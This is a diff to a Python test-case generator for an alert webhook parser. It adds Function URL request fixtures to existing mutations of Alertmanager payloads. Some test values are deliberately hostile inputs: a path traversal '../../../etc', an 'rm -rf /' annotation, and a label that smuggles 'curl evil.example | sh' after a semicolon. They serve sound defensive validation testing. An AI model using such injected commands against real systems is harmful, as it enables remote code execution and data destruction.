@@ -17,6 +17,7 @@ GROUP = load("group-high-cpu-alarm.json")
 SNS = load("sns-high-cpu-alarm.json")
 DIRECT = load("direct-high-cpu-alarm.json")
 AM = load("alertmanager-high-cpu.json")
+FU = load("function-url-alertmanager.json")
 
 cases = []  # (name, bytes, expected substring, webhook: bool)
 
@@ -139,6 +140,15 @@ mutate("am-fingerprint-path", AM, A0 + ["fingerprint"], "../../../etc", "alerts[
 mutate("am-no-fingerprint", AM, A0 + ["fingerprint"], None, "alerts[0].fingerprint", webhook=True, delete=True)
 mutate("am-value-text", AM, A0 + ["annotations", "value"], "rm -rf /", "alerts[0].annotations.value", webhook=True)
 mutate("am-second-alert-bad", AM, ["alerts", 1, "labels", "instance"], "x;y:1", "alerts[1].labels.instance", webhook=True)
+
+# Function URL requests (the webhook's input shape), as the CLI reads them.
+mutate("fu-body-not-json", FU, ["body"], "alertname=HighCPUUsage", "field `body`")
+mutate("fu-body-bad-base64", FU, ["isBase64Encoded"], True, "field `body`: marked base64")
+mutate("fu-body-cloudwatch-event", FU, ["body"], json.dumps(EB), "body")
+bad_label = copy.deepcopy(AM)
+bad_label["alerts"][0]["labels"]["instance"] = "10.0.1.5:9100; curl evil.example | sh"
+mutate("fu-body-label-injection", FU, ["body"], json.dumps(bad_label), "body.alerts[0].labels.instance")
+mutate("fu-body-number", FU, ["body"], 4, "body")
 
 shutil.rmtree(OUT, ignore_errors=True)
 os.makedirs(OUT)
